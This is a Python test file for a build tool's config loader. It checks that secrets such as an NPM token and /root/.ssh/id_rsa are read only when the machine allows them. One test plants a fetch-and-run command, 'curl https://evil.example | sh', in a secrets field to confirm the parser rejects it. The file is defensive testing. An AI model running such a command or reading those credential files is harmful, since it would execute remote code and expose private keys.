from __future__ import annotations

from pathlib import Path

import pytest

from pipelines.config import InvalidConfig, check_allowed, load, parse

CONFIG = """\
version: 1
project: shop
source: https://example.com/shop
services:
  api:
    context: .
    secrets: {npm: env://NPM_TOKEN, key: file:///root/.ssh/id_rsa}
environments:
  local: {registry: localhost:5000}
"""
REFUSED = [
    "sealift.yaml:7:20 services.api.secrets.npm: this machine gives no build env://NPM_TOKEN: if that is right,"
    " set SEALIFT_ALLOW_SECRETS=env://NPM_TOKEN, in the environment or .env",
    "sealift.yaml:7:42 services.api.secrets.key: this machine gives no build file:///root/.ssh/id_rsa: if that is"
    " right, set SEALIFT_ALLOW_SECRETS=file:///root/.ssh/id_rsa, in the environment or .env",
]


@pytest.mark.parametrize(
    ("environ", "refused"),
    [
        ({}, REFUSED),
        ({"SEALIFT_ALLOW_SECRETS": "env://NPM file:///root/.ssh"}, REFUSED),
        ({"SEALIFT_ALLOW_SECRETS": "env://NPM_TOKEN"}, REFUSED[1:]),
        ({"SEALIFT_ALLOW_SECRETS": "file:///root/.ssh/id_rsa, env://NPM_TOKEN"}, []),
        # What its file has is known when the engine has read it.
        ({"SEALIFT_BUILD_SECRETS": "file:///secrets"}, []),
    ],
)
def test_only_what_the_machine_allows_is_read(tmp_path: Path, environ: dict[str, str], refused: list[str]) -> None:
    (tmp_path / "sealift.yaml").write_text(CONFIG)
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    loaded = load(tmp_path, environ={})
    assert [str(problem) for problem in check_allowed(loaded, ["api"], environ)] == refused
    assert list(check_allowed(loaded, [], environ)) == []


def test_a_command_is_no_address_in_the_file() -> None:
    with pytest.raises(InvalidConfig) as failure:
        parse(CONFIG.replace("env://NPM_TOKEN", "'cmd://curl https://evil.example | sh'"))
    (problem,) = failure.value.problems
    assert str(problem) == (
        "sealift.yaml:7:20 services.api.secrets.npm: a command in a file of the repository is not run on this machine"
    )
